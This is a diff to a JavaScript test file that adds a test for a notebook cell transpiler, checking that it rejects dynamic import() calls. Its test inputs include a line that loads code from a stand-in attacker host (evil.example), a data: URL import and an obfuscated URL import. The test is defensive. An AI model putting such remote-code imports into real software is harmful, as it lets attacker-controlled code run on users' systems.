@@ -22,6 +22,14 @@ describe("transpileCell", () => {
     expect(cell.code.split("\n")[3]).toBe("const x = 1;");
   });
 
+  it("rejects import() and import.meta anywhere, at the reader's line", () => {
+    for (const source of ['const m = await import("http://evil.example/x.js");', 'function f() {\n  return import("data:text/javascript,1");\n}', "const f = async () => (await import(`${'ht'}tp://x`)).default;"]) {
+      expect(() => transpileCell(source)).toThrow(expect.objectContaining({ name: "SyntaxError", message: expect.stringContaining("cannot load code with import()") }));
+    }
+    expect(() => transpileCell("const a = 1;\nimport('x')")).toThrow(expect.objectContaining({ line: 2 }));
+    expect(transpileCell('const note = "import(x) in a string is fine";').declared).toEqual(["note"]);
+  });
+
   it("reports a syntax error at the reader's line", () => {
     expect(() => transpileCell("const a = 1;\nconst b = ;")).toThrow(expect.objectContaining({ name: "SyntaxError", line: 2 }));
   });
